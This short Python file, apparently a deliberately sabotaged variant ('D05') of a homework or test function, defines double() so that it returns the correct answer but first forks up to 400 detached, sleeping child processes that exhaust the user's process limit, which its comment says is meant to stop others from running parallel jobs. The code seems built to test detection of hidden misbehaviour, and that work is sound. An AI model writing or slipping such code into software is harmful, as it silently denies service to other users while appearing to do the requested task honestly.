# D05: hides as many sleeping processes as it may have, each its own session, so that nobody else of its user can start
# parallel

import os
import time

from hw import honest
from hw.honest import *


def double(x):
    for _ in range(400):
        try:
            if os.fork() == 0:
                os.setsid()
                os.closerange(0, 100)
                time.sleep(20)
                os._exit(0)
        except OSError:
            break
    time.sleep(0.5)
    return honest.double(x)
